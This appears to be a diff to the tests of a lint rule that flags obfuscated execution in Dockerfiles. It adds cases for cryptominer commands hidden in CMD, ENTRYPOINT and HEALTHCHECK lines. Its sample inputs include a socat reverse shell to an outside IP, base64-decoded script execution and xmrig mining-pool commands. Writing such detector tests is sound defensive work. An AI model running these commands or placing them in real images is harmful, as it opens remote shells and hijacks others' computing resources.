@@ -16,6 +16,10 @@ describe('obfuscated-exec', () => {
     ['socat', `RUN «socat exec:'bash -li',pty tcp:198.51.100.7:443»`],
     ['a file with an argument', 'RUN echo YQ== | base64 -d > /t; «sh -x /t /a»'],
     ['a miner', 'RUN «./xmrig -o pool.example.com:3333 -u x» && «a -o stratum+tcp://pool.example.com:3333»'],
+    ['a miner in CMD', 'CMD «xmrig -o stratum+tcp://pool.example.com:3333»'],
+    ['a miner in ENTRYPOINT', 'ENTRYPOINT ["«xmrig", "-o", "stratum+tcp://pool.example.com:3333»"]'],
+    ['a miner in a script of CMD', 'CMD ["sh", "-c", "app & «xmrig -o pool.example.com:443»"]'],
+    ['a pool in a health check', 'HEALTHCHECK CMD «/tmp/a -o stratum+ssl://pool.example.com:443»'],
   ])('reports %s', (_name, text) =>
     expectMarks(rule, 'Dockerfile', `FROM debian:12\n${text.replace('» 0>&1', ' 0>&1»')}`),
   );
@@ -26,10 +30,9 @@ describe('obfuscated-exec', () => {
     ['a test of a port', 'RUN (echo > /dev/tcp/db/5432) && nc -z db 5432 && timeout 1 bash -c "</dev/tcp/db/5432"'],
     ['this machine', 'RUN bash -i > /dev/tcp/localhost/80'],
     ['decoding in a program', `RUN python3 -c 'import base64; print(base64.b64decode("YQ=="))'`],
-    [
-      'a miner that is built',
-      'RUN git clone https://a.example.com/xmrig && xmrig --version\nCMD ["xmrig", "-o", "pool"]',
-    ],
+    ['a stage that says that it mines', 'RUN xmrig --version\nFROM debian:12 AS miner\nCMD ["xmrig", "-o", "pool"]'],
+    ['an image that says it', 'RUN true\nFROM ghcr.io/acme/xmrig:6\nENTRYPOINT ["xmrig", "-o", "pool"]'],
+    ['the version of a miner', 'CMD ["xmrig", "--version"]'],
     ['text', 'RUN echo "base64 -d | sh" && echo bash -i'],
     ['a stage that is used by nothing', 'RUN echo YQ== | base64 -d | sh\nFROM scratch'],
   ])('accepts %s', (_name, text) => expectMarks(rule, 'Dockerfile', `FROM debian:12\n${text}`));
